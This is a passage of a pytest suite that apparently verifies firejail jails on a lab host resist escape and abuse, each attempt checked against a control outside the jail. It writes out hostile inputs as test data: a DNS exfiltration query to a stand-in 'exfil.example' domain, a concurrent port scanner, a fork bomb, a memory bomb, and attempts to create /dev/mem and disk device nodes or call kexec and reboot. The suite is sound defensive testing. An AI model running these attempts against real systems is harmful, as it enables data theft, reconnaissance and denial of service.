    """CONTROL: uid 33 on the host, outside the jail: a netlink socket opens, raw IPv6 and packet
    sockets are refused for want of CAP_NET_RAW (EPERM) where the jail refuses the protocol itself
    (EOPNOTSUPP). A raw ICMP socket is EPERM on both sides (no CAP_NET_RAW): a precondition here,
    test_root_in_jail_cannot_open_raw_or_packet_sockets has the control that succeeds."""
    result = shell.py(SOCKETS)
    control = outside(host, SOCKETS)
    blocked(control, "raw_icmp", "EPERM")
    blocked(control, "raw_tcp6", "EPERM")
    blocked(control, "packet", "EPERM")
    passes(control, "netlink")
    blocked(result, "raw_icmp", "EPERM")      # no CAP_NET_RAW
    blocked(result, "raw_tcp6", "EOPNOTSUPP")  # protocol unix,inet (seccomp): no IPv6 at all
    blocked(result, "packet", "EOPNOTSUPP")
    blocked(result, "netlink", "EOPNOTSUPP")
    assert result["inet_ok"]["ok"], "control: an ordinary TCP socket must work"


def test_root_in_jail_cannot_open_raw_or_packet_sockets(host, root_entry):
    """CONTROL: root on the host, outside the jail, opens every one of them (opening a socket
    sends nothing). In the jail: EPERM (CAP_NET_RAW is not in the bounding set) and EOPNOTSUPP
    (protocol unix,inet)."""
    result = as_root(host, SOCKETS)
    control = outside(host, SOCKETS, uid=None)
    for label in ("raw_icmp", "raw_tcp6", "packet", "netlink", "inet_ok"):
        passes(control, label)
    blocked(result, "raw_icmp", "EPERM")
    blocked(result, "raw_tcp6", "EOPNOTSUPP")
    blocked(result, "packet", "EOPNOTSUPP")
    blocked(result, "netlink", "EOPNOTSUPP")


IPV6 = r'''
attempt('inet6_tcp', lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM).close())
attempt('inet6_udp', lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).close())
'''
# From a jail's network namespace, by a host process (no seccomp filter): a TCP connection to
# ADDR (scope eth0) on PORT; "refused" (a reset came back) or "connected" both mean the packet arrived.
IPV6_CONNECT = ("import socket, sys\n"
                "s = socket.socket(socket.AF_INET6); s.settimeout(3)\n"
                "try:\n    s.connect((sys.argv[1], int(sys.argv[2]), 0, socket.if_nametoindex('eth0'))); print('connected')\n"
                "except ConnectionRefusedError:\n    print('refused')\n"
                "except OSError as e:\n    print('blocked', e)\n")


def link_local(host, jail: str) -> str:
    """The fe80:: address of JAIL's eth0 (every interface gets one while IPv6 is on)."""
    _, _, daemons = jail_pids(host, jail)
    line = host.check_output(f"nsenter -t {daemons[0]} -n ip -6 -o addr show dev eth0 scope link")
    return line.split()[3].split("/")[0]


@pytest.mark.parametrize("who", ["www-data", "root"])
def test_ipv6_between_jails_is_closed(host, shell, root_entry, who):
    """The FORWARD rules between jails are IPv4 rules; IPv6 would pass the bridge unfiltered
    (each jail's eth0 has a link-local address). The jails may open no IPv6 socket at all
    (protocol unix,inet). CONTROL: from the web jail's network namespace, without the jail's
    seccomp filter, a connection to the db jail's link-local address on a closed port is
    answered with a reset: the path is open, only the filter closes it."""
    result = shell.py(IPV6) if who == "www-data" else as_root(host, IPV6)
    blocked(result, "inet6_tcp", "EOPNOTSUPP")
    blocked(result, "inet6_udp", "EOPNOTSUPP")
    target = link_local(host, DB)
    _, _, web = jail_pids(host, WEB)
    control = host.check_output(f"nsenter -t {web[0]} -n python3 -c {shlex.quote(IPV6_CONNECT)} {target} 5433")
    print(f"  control (host process in the web jail's network namespace) -> [{target}]:5433: {control}")
    assert control in ("refused", "connected"), control


IO_URING = r'''
params = ctypes.create_string_buffer(120)  # struct io_uring_params, zeroed
attempt('io_uring_setup', lambda: syscall(425, 4, params))
'''


@pytest.mark.parametrize("who,jail", [("www-data", WEB), ("root", WEB), ("root", DB)])
def test_io_uring_is_denied(host, shell, root_entry, who, jail):
    """io_uring (the largest source of recent kernel privilege escalations) is denied in every
    jail: firejail's seccomp list plus io_uring_setup/enter/register. CONTROL: uid 33 on the
    test host, outside any jail, gets an io_uring descriptor."""
    result = shell.py(IO_URING) if who == "www-data" else as_root(host, IO_URING, jail)
    blocked(result, "io_uring_setup", "EPERM")
    control = outside(host, IO_URING)
    assert control["io_uring_setup"]["ok"], control


def test_root_in_jail_cannot_change_the_jail_network(host, root_entry):
    """Spoofing another jail's address needs CAP_NET_ADMIN (and netlink, which is filtered).
    CONTROL: root on the host, outside any jail, in a throwaway network namespace (unshare -n: the
    host's network is untouched) gets past the capability check (ENODEV: that namespace has no
    eth0; the check comes first) and writes its ip_forward."""
    code = ("import fcntl, struct\n"
            "s = socket.socket()\n"
            f"req = struct.pack('16sH2s4s8s', b'eth0', socket.AF_INET, b'\\0\\0', "
            f"socket.inet_aton('{DB_IP}'), b'\\0' * 8)\n"
            "attempt('siocsifaddr', lambda: fcntl.ioctl(s, 0x8916, req))\n"
            "attempt('ip_forward', lambda: open('/proc/sys/net/ipv4/ip_forward', 'w').write('1'))")
    result = as_root(host, code)
    control = outside(host, code, uid=None, wrap="unshare -n")
    passes(control, "siocsifaddr", "ENODEV")
    passes(control, "ip_forward")
    blocked(result, "siocsifaddr", "EPERM")
    blocked(result, "ip_forward", "EROFS", "EACCES", "EPERM")


MKNOD = r'''
import stat
attempt('block', lambda: os.mknod('/tmp/sda', stat.S_IFBLK | 0o600, os.makedev(8, 0)))
attempt('mem', lambda: os.mknod('/tmp/mem', stat.S_IFCHR | 0o600, os.makedev(1, 1)))
attempt('in_dev', lambda: os.mknod('/dev/kmem', stat.S_IFCHR | 0o600, os.makedev(1, 2)))
'''
# A node any device policy allows (the numbers of /dev/null): the capability alone decides.
MKNOD_NULL = r'''
import stat
attempt('null', lambda: os.mknod('/tmp/@NAME@', stat.S_IFCHR | 0o600, os.makedev(1, 3)))
'''


def test_www_data_cannot_create_devices(host, shell):
    """Precondition only: uid 33 gets the same refusals on the host (CONTROL): mknod of a device
    needs CAP_MKNOD, /dev is root's. test_root_in_jail_cannot_create_devices is the jail's test."""
    code = MKNOD + MKNOD_NULL.replace("@NAME@", MARK)
    result = shell.py(code)
    control = outside(host, code)
    for label in ("block", "mem", "null"):
        blocked(control, label, "EPERM")  # plain permissions, no jail needed
        blocked(result, label, "EPERM")
    blocked(control, "in_dev", "EACCES", "EPERM")
    blocked(result, "in_dev", "EACCES", "EPERM")


def test_root_in_jail_cannot_create_devices(host, root_entry):
    """CONTROL: root on the host, outside the jail, creates a character device node with the
    numbers of /dev/null in /tmp (then removed): the harmless one, any device policy allows it.
    In the jail even that is EPERM, like /dev/mem's and a disk's numbers: CAP_MKNOD is out of the
    bounding set (the control does not create those on the host)."""
    code = MKNOD + MKNOD_NULL.replace("@NAME@", MARK)
    result = as_root(host, code)
    try:
        control = outside(host, MKNOD_NULL.replace("@NAME@", MARK), uid=None)
        assert host.run(f"test -c /tmp/{MARK}").rc == 0, "control: no device node on the host"
    finally:
        host.run(f"rm -f /tmp/{MARK}")
    passes(control, "null")
    blocked(result, "null", "EPERM")
    blocked(result, "block", "EPERM")
    blocked(result, "mem", "EPERM")
    blocked(result, "in_dev", "EPERM")


HOST_DEVICES = ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/loop0', '/dev/tty0', '/dev/net/tun', '/dev/port')
DEVICES = r'''
out['listing'] = sorted(os.listdir('/dev'))
for dev in @DEVICES@:
    attempt(dev, lambda dev=dev: os.open(dev, os.O_RDONLY))
'''.replace("@DEVICES@", repr(HOST_DEVICES))
ALLOWED_DEV = {"console", "full", "null", "ptmx", "pts", "random", "shm", "tty", "urandom", "zero",
               "fd", "stdin", "stdout", "stderr", "log"}


@pytest.mark.parametrize("who", ["www-data", "root"])
def test_host_devices_are_absent(host, shell, root_entry, who):
    """The host's devices are absent from the jail (private-dev): ENOENT, and /dev holds only the
    allowed set. CONTROL: the same uid on the host, outside the jail, lists a /dev with more than
    that set and finds the devices of the list the host has (opened read-only, or refused by
    permissions: EACCES, EPERM, but there). A host without any of them would prove nothing: the
    lab host, a container, has /dev/net/tun, a bare-metal host most of them."""
    result = shell.py(DEVICES) if who == "www-data" else as_root(host, DEVICES)
    control = outside(host, DEVICES, uid=33 if who == "www-data" else None)
    present = [dev for dev in HOST_DEVICES if control[dev]["ok"] or control[dev]["errno"] != "ENOENT"]
    assert present, f"control: none of {HOST_DEVICES} is on the host"
    assert set(control["listing"]) - ALLOWED_DEV, f"control: the host's /dev is the jail's set: {control['listing']}"
    for dev in HOST_DEVICES:
        blocked(result, dev, "ENOENT")
    assert set(result["listing"]) <= ALLOWED_DEV, set(result["listing"]) - ALLOWED_DEV


# Each write puts back the value that is there: harmless if it ever got through; the errno is the
# evidence. firejail remounts /proc/sys read-only and bind-mounts an empty file over core_pattern.
SYSCTLS = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/panic",
           "/proc/sys/vm/overcommit_memory", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/pid_max"]
SYS_FILES = ["/sys/kernel/mm/transparent_hugepage/enabled", "/sys/class/net/lo/mtu"]
PROC_SYS = r'''
for path in @PATHS@:
    def rewrite(path=path):
        value = open(path).read()
        with open(path, 'w') as f:
            f.write(value)
    attempt(path, rewrite)
'''


@pytest.mark.parametrize("who", ["www-data", "root"])
def test_proc_sys_and_sys_are_read_only(host, shell, root_entry, who):
    """www-data: a precondition only. uid 33 may write none of these files on the host either
    (CONTROL: EACCES, they are root's 0644), so its EACCES in the jail says nothing about the jail.
    root: the jail's test. CONTROL: root on the host, outside the jail (in throwaway network and UTS
    namespaces: the net sysctls it rewrites are that namespace's own), rewrites the ones its host
    lets it: at least one. The lab host, a systemd-nspawn container, has /proc/sys and /sys
    read-only itself but for /proc/sys/net; a bare-metal host lets root write them all. Every file
    root writes outside, it may not write in the jail (EROFS: firejail's read-only remount)."""
    paths = [p for p in SYSCTLS + SYS_FILES if host.file(p).exists]
    assert len(paths) >= 5, paths
    code = PROC_SYS.replace("@PATHS@", repr(paths))
    result = shell.py(code) if who == "www-data" else as_root(host, code)
    if who == "www-data":
        control = outside(host, code)
        assert not [p for p in paths if control[p]["ok"]], f"uid 33 writes sysctls on the host: {control}"
    else:
        control = outside(host, code, uid=None, wrap="unshare -n -u")
        writable = [p for p in paths if control[p]["ok"]]
        assert writable, "control: root on the host writes none of them"
        for path in writable:
            blocked(result, path, "EROFS")
    for path in paths:
        # core_pattern is an empty read-only file in the jail: the read works, the write not
        blocked(result, path, "EROFS", "EACCES", "ENOENT")


SECCOMP = r'''
attempt('keyctl', lambda: syscall(250, 0, -3, 0))          # KEYCTL_GET_KEYRING_ID, session keyring
attempt('add_key', lambda: syscall(248, b'user', b'jh', b'x', 1, -3))
attempt('bpf', lambda: syscall(321, 0, 0, 0))               # BPF_MAP_CREATE
attempt('userfaultfd', lambda: syscall(323, 0))
attempt('perf_event_open', lambda: syscall(298, 0, 0, -1, -1, 0))
attempt('kexec_load', lambda: syscall(246, 0, 0, 0, 0))
attempt('personality', lambda: syscall(135, 0x0040000))     # ADDR_NO_RANDOMIZE
'''


def test_www_data_keyctl_bpf_and_friends_are_filtered(host, shell):
    result = shell.py(SECCOMP)
    for label in ("keyctl", "add_key", "bpf", "userfaultfd", "perf_event_open", "kexec_load"):
        blocked(result, label, "EPERM")
    # The same calls on the test host as uid 33 outside the jail: what the jail's filter changes.
    control = outside(host, SECCOMP)
    # The lab host is itself a systemd-nspawn container, whose own seccomp filter refuses keyctl,
    # bpf, ... outside the jail too. personality() is allowed there and refused in the jail, and
    # the jail's processes carry firejail's filters on top of the host's.
    assert control["personality"]["ok"], outside
    blocked(result, "personality", "EPERM")
    assert int(result["self"]["Seccomp_filters"]) > int(control["self"]["Seccomp_filters"]), (result["self"], control)


ROOT_SECCOMP = SECCOMP + ("attempt('settime', lambda: syscall(164, 0, 0))\n"
                          "attempt('sethostname', lambda: syscall(170, b'owned', 5))\n"
                          "attempt('swapon', lambda: syscall(167, b'/tmp', 0))\n"
                          "attempt('reboot_cad', lambda: syscall(169, 0xfee1dead, 672274793, 0, 0))")


def test_root_in_jail_keyctl_bpf_and_friends_are_filtered(host, root_entry):
    """CONTROL: root on the host, outside the jail, in throwaway UTS and PID namespaces (its
    hostname is that namespace's; reboot() in a PID namespace other than the first only ends that
    namespace, and LINUX_REBOOT_CMD_CAD_OFF is refused there, EINVAL). The lab host is itself a
    systemd-nspawn container whose own filter and bounding set refuse keyctl, add_key, bpf,
    perf_event_open, kexec_load, settime and swapon outside the jail too (the control prints them): for those the
    jail's evidence is its own filter on top (more Seccomp_filters than host root). The others get
    through outside (success, or an error on the garbage arguments: EFAULT, EINVAL) and are EPERM
    in the jail."""
    result = as_root(host, ROOT_SECCOMP)
    control = outside(host, ROOT_SECCOMP, uid=None, wrap="unshare -u -p -f")
    for label in ("personality", "sethostname", "userfaultfd", "reboot_cad"):
        passes(control, label, "EFAULT", "EINVAL")
    for label in ("keyctl", "add_key", "bpf", "userfaultfd", "perf_event_open", "kexec_load", "settime",
                  "sethostname", "swapon", "reboot_cad", "personality"):
        blocked(result, label, "EPERM")
    assert int(result["self"]["Seccomp_filters"]) > int(control["self"]["Seccomp_filters"]), (result["self"], control)
    assert host.check_output("hostname") != "owned"


CONTROL_DIR = "/usr/local/lib/jailhost-test"


def test_setuid_binary_gains_nothing(host, shell):
    """A setuid-root program (planted by the test: a copy of id) runs without privilege."""
    path = f"/usr/local/bin/{MARK}-id"
    host.run_expect([0], f"cp {WEB_ROOT}/usr/bin/id {WEB_ROOT}{path} && chmod 4755 {WEB_ROOT}{path}")
    try:
        rc, stdout, _ = shell.sh(f"{path} -u; {path} -ru; grep -E '^(Uid|NoNewPrivs)' /proc/self/status")
        assert rc == 0
        assert stdout.splitlines()[:2] == ["33", "33"], f"the setuid binary gained privileges: {stdout}"
        # the same file outside the jail really is setuid-root: the attempt can succeed (a copy
        # with the same mode in a host directory: the jails directory is root's alone)
        host.run_expect([0], f"mkdir -p {CONTROL_DIR} && cp -p {WEB_ROOT}{path} {CONTROL_DIR}/{MARK}-id")
        control = host.check_output(f"setpriv --reuid=33 --regid=33 --clear-groups {CONTROL_DIR}/{MARK}-id -u")
        assert control == "0"
        result = shell.py("attempt('su', lambda: os.popen('su -c id root </dev/null 2>&1').read())")
        assert "uid=0" not in result["su"]["value"]
    finally:
        host.run(f"rm -f {WEB_ROOT}{path} {CONTROL_DIR}/{MARK}-id")


def test_system_v_ipc_of_the_host_is_invisible(host, shell):
    """A shared memory segment of the host, mode 0666. CONTROL: uid 33 on the host, outside the
    jail, attaches it and sees it in /proc/sysvipc/shm; in the jail (its own IPC namespace) the id
    names nothing."""
    shmid = host.check_output("ipcmk -M 4096 -p 0666 | awk '{print $NF}'")
    try:
        assert shmid.isdigit(), "could not create a shared memory segment on the host"
        code = (f"attempt('shmat', lambda: syscall(30, {shmid}, 0, 0))\n"          # shmat
                "attempt('ipcs', lambda: open('/proc/sysvipc/shm').read().splitlines()[1:])")
        result = shell.py(code)
        control = outside(host, code)
        assert control["shmat"]["ok"] and control["ipcs"]["value"], control
        blocked(result, "shmat", "EINVAL", "EIDRM")
        assert result["ipcs"]["value"] == [], result["ipcs"]
    finally:
        host.run(f"ipcrm -m {shmid}")


def test_abstract_unix_sockets_of_the_host_are_unreachable(host, shell):
    name = f"jailhost-escape-{uuid.uuid4().hex[:8]}"
    pid = host.check_output(
        f"setsid python3 -c \"import socket,time; s=socket.socket(socket.AF_UNIX); s.bind('\\0{name}'); "
        f"s.listen(1); time.sleep(120)\" >/dev/null 2>&1 </dev/null & echo $!")
    try:
        wait_until(lambda: name in host.check_output("cat /proc/net/unix"), timeout=5)
        code = f"s = socket.socket(socket.AF_UNIX)\nattempt('connect', lambda: s.connect('\\0{name}'))"
        result = shell.py(code)
        # CONTROL: uid 33 on the host, outside the jail, connects (abstract names have no permissions);
        # the jail has its own network namespace, hence its own abstract names.
        control = outside(host, code)
        assert control["connect"]["ok"], control
        blocked(result, "connect", "ECONNREFUSED")
    finally:
        host.run(f"kill {pid}")


# --------------------------------------------------------------------------- network


def test_control_the_declared_flow_to_postgresql_works(shell):
    """Not an attempt: the network tests below would prove nothing if the jail had no network."""
    result = shell.py(f"attempt('pg', lambda: connect('{DB_IP}', 5432))")
    assert result["pg"] == {"ok": True, "value": "connected"}


HOST_CONNECT = "python3 -c \"import socket; socket.create_connection(('{addr}', {port}), 3); print('connected')\""


def test_host_ssh_on_the_bridge_address_is_unreachable(host, shell):
    """CONTROL: from the host itself, sshd answers on the bridge address (it listens on it)."""
    assert host.run("ss -Hltn 'sport = :22' | grep -q .").rc == 0, "no sshd on the test host"
    assert host.check_output(HOST_CONNECT.format(addr=BRIDGE_IP, port=22)) == "connected"
    result = shell.py(f"attempt('ssh', lambda: connect('{BRIDGE_IP}', 22))")
    blocked(result, "ssh", "timeout")


def test_host_ssh_on_the_uplink_address_is_unreachable(host, shell):
    uplink = host.check_output("ip -4 -o addr show scope global | awk '$2 != \"br0\" && $2 !~ /^h-/ "
                               "{sub(\"/.*\", \"\", $4); print $4; exit}'")
    assert uplink, "no uplink address"
    # CONTROL: from the host itself, sshd answers on the uplink address.
    assert host.check_output(HOST_CONNECT.format(addr=uplink, port=22)) == "connected"
    result = shell.py(f"attempt('ssh', lambda: connect('{uplink}', 22))")
    blocked(result, "ssh", "timeout")


def test_any_host_port_on_the_bridge_address_is_unreachable(host, shell, listeners):
    assert host.check_output(f"python3 -c \"import socket; s=socket.create_connection(('{BRIDGE_IP}', "
                             f"{HOST_PORT}), 3); print(s.recv(6).decode())\"") == "hello", "control from the host"
    host.run(f"sed -i '/^tcp/d' {listeners['host']}")
    result = shell.py(f"attempt('tcp', lambda: connect('{BRIDGE_IP}', {HOST_PORT}))")
    blocked(result, "tcp", "timeout")
    assert seen(host, listeners["host"]) == []


@pytest.mark.parametrize("port", DB_EXTRA_PORTS)
def test_db_jail_is_unreachable_on_any_port_but_postgresql(host, shell, listeners, port):
    result = shell.py(f"attempt('tcp', lambda: connect('{DB_IP}', {port}))")
    blocked(result, "tcp", "timeout")
    assert not [line for line in seen(host, listeners["db"]) if f":{port} " in line]
    # control: the service is there (from inside the db jail's own network namespace)
    _, _, daemons = jail_pids(host, DB)
    assert host.run(f"nsenter -t {daemons[0]} -n python3 -c \"import socket; "
                    f"socket.create_connection(('{DB_IP}', {port}), 3)\"").rc == 0


SCAN = r'''
import selectors
def scan(addr, ports, wait=2.0):
    """Non-blocking connects, 200 at a time: open (handshake done), refused (RST: a reachable
    address with no listener) or filtered (no answer: dropped by the firewall)."""
    found = {"open": [], "refused": [], "filtered": []}
    for start in range(0, len(ports), 200):
        selector, sockets = selectors.DefaultSelector(), []
        for port in ports[start:start + 200]:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((addr, port))
            selector.register(s, selectors.EVENT_WRITE, port)
            sockets.append(s)
        pending, deadline = len(sockets), time.monotonic() + wait
        while pending and time.monotonic() < deadline:
            for key, _ in selector.select(max(0.0, deadline - time.monotonic())):
                error = key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                found["open" if error == 0 else "refused" if error == errno.ECONNREFUSED else "filtered"].append(key.data)
                selector.unregister(key.fileobj)
                pending -= 1
        for key in list(selector.get_map().values()):
            found["filtered"].append(key.data)
        for s in sockets:
            s.close()
    return {state: sorted(ports) for state, ports in found.items()}
'''
SCANNED_PORTS = list(range(1, 1025)) + [3306, 5433, 6379, 8000, 8080, 8081, 8443, 9000, 11211, 27017]


def test_a_port_scan_of_the_db_jail_finds_postgresql_only(shell):
    """1,034 ports of the db jail scanned from the web jail: PostgreSQL answers, every other port
    is silently dropped by the firewall (a refused one would mean the packet reached the jail)."""
    result = shell.py(SCAN + f"attempt('scan', lambda: scan('{DB_IP}', {SCANNED_PORTS + [5432]!r}))")
    assert result["scan"]["ok"], result["scan"]
    found = result["scan"]["value"]
    print(f"scan of {DB_IP}: open {found['open']}, refused {len(found['refused'])}, "
          f"filtered {len(found['filtered'])}")
    assert found["open"] == [5432], found["open"]
    assert found["refused"] == [], f"ports that reached the db jail: {found['refused'][:20]}"
    assert len(found["filtered"]) == len(SCANNED_PORTS)


def test_db_jail_cannot_reach_the_web_jail(host, root_entry):
    """The declared flow is web -> db:5432 only; root in the db jail cannot open the reverse.
    CONTROL: Apache answers on both ports, from the web jail's own network namespace."""
    _, _, web = jail_pids(host, WEB)
    for port in (80, 443):
        assert host.check_output(f"nsenter -t {web[0]} -n " + HOST_CONNECT.format(addr=WEB_IP, port=port)) == "connected"
    result = as_root(host, f"attempt('http', lambda: connect('{WEB_IP}', 80))\n"
                           f"attempt('https', lambda: connect('{WEB_IP}', 443))", jail=DB)
    blocked(result, "http", "timeout")
    blocked(result, "https", "timeout")


def test_outside_is_unreachable_when_egress_is_denied(host, shell, listeners):
    assert VARS.get("bridge_egress_policy") == "deny", "this suite expects the lab's egress policy deny"
    assert host.check_output(f"python3 -c \"import socket; s=socket.create_connection(('{OUT_IP}', 443), 3); "
                             "print(s.recv(6).decode())\"") == "hello", "control: the host reaches the outside"
    host.run(f"sed -i '/^tcp/d' {listeners['out']}")
    result = shell.py(f"attempt('https', lambda: connect('{OUT_IP}', 443))\n"
                      f"attempt('http', lambda: connect('{OUT_IP}', 80))")
    blocked(result, "https", "timeout")
    blocked(result, "http", "timeout")
    assert seen(host, listeners["out"]) == []


DNS = r'''
query = bytes.fromhex('abcd01000001000000000000') + b''.join(
    bytes([len(p)]) + p.encode() for p in 'c2VjcmV0.exfil.example'.split('.')) + b'\x00\x00\x10\x00\x01'
for label, addr in (('outside', '@OUT@'), ('bridge', '@BRIDGE@')):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    def ask(s=s, addr=addr):
        s.sendto(query, (addr, 53))
        return s.recvfrom(512)[0].hex()
    attempt('udp_' + label, ask)
attempt('tcp_outside', lambda: connect('@OUT@', 53))
'''


def test_dns_exfiltration_is_blocked(host, shell, listeners):
    for log in (listeners["out"], listeners["host"]):
        host.run(f"sed -i '/^udp/d;/^tcp/d' {log}")
    result = shell.py(DNS.replace("@OUT@", OUT_IP).replace("@BRIDGE@", BRIDGE_IP))
    blocked(result, "udp_outside", "timeout")
    blocked(result, "udp_bridge", "timeout")
    blocked(result, "tcp_outside", "timeout")
    time.sleep(1)
    assert seen(host, listeners["out"]) == [] and seen(host, listeners["host"]) == [], "a query got out"
    # control: the listeners do answer (from the host)
    for addr in (OUT_IP, BRIDGE_IP):
        host.run_expect([0], f"python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                             f"s.sendto(b'control', ('{addr}', 53))\"")
    wait_until(lambda: seen(host, listeners["out"]), timeout=5)
    wait_until(lambda: seen(host, listeners["host"]), timeout=5)


# --------------------------------------------------------------------------- resources


def test_fork_bomb_stops_at_the_jail_process_limit(host, shell):
    """www-data forks until the kernel refuses (rlimit-nproc of the jail); the host keeps forking."""
    _, _, (parent, *_) = jail_pids(host, WEB)
    limit = [line.split()[2] for line in host.check_output(f"cat /proc/{parent}/limits").splitlines()
             if line.startswith("Max processes")][0]
    assert limit.isdigit() and int(limit) <= 1024, f"no real process limit on the web jail: {limit}"
    code = r'''
kids = []
def bomb():
    while len(kids) < 100000:
        pid = os.fork()
        if pid == 0:
            time.sleep(4); os._exit(0)
        kids.append(pid)
attempt('fork', bomb)
out['forked'] = len(kids)
out['host_ok'] = True
for k in kids:
    os.kill(k, 9)
for k in kids:
    os.waitpid(k, 0)
'''
    result = shell.py(code)
    # CONTROL: uid 33 on the host, outside the jail, has no such limit (read, not tried).
    control = outside(host, "import resource\nout['nproc'] = resource.getrlimit(resource.RLIMIT_NPROC)[0]")
    assert control["nproc"] == -1 or control["nproc"] > int(limit), control
    blocked(result, "fork", "EAGAIN")
    assert result["forked"] < int(limit), result["forked"]
    host.run_expect([0], "sh -c true")  # the host still forks
    assert host.run("systemctl is-system-running").stdout.strip() in ("running", "degraded")


def test_memory_bomb_stops_at_the_jail_address_space_limit(host, shell):
    """www-data allocates 4 GiB; rlimit-as of the jail refuses it; the host's memory is untouched."""
    _, _, (parent, *_) = jail_pids(host, WEB)
    limit = [line.split()[3] for line in host.check_output(f"cat /proc/{parent}/limits").splitlines()
             if line.startswith("Max address space")][0]
    assert limit.isdigit(), f"no address space limit on the web jail: {limit}"
    available = int(host.check_output("awk '/MemAvailable/ {print $2}' /proc/meminfo"))
    result = shell.py("attempt('alloc', lambda: len(bytearray(4 << 30)))\n"
                      "attempt('mmap', lambda: __import__('mmap').mmap(-1, 4 << 30).close())")
    # CONTROL: uid 33 on the host, outside the jail, has no such limit (read, not tried: 4 GiB).
    control = outside(host, "import resource\nout['as'] = resource.getrlimit(resource.RLIMIT_AS)[0]")
    assert control["as"] == -1 or control["as"] > int(limit), control
    blocked(result, "alloc", "MemoryError")
    blocked(result, "mmap", "ENOMEM")
    after = int(host.check_output("awk '/MemAvailable/ {print $2}' /proc/meminfo"))
    assert after > available - 512 * 1024, "the host lost memory"


def test_the_site_still_serves_after_the_battery(host, shell):
    """Not an attempt: the battery leaves the host as it found it, serving."""
    wait_until(lambda: shell.sh("echo ok")[1] == "ok\n", timeout=30)
    status = host.run(f"curl -s -o /dev/null -w '%{{http_code}}' -H 'Host: {SERVER_NAME}' "
                      f"http://{public_address(host)}/health.txt")
    assert status.stdout == "200"
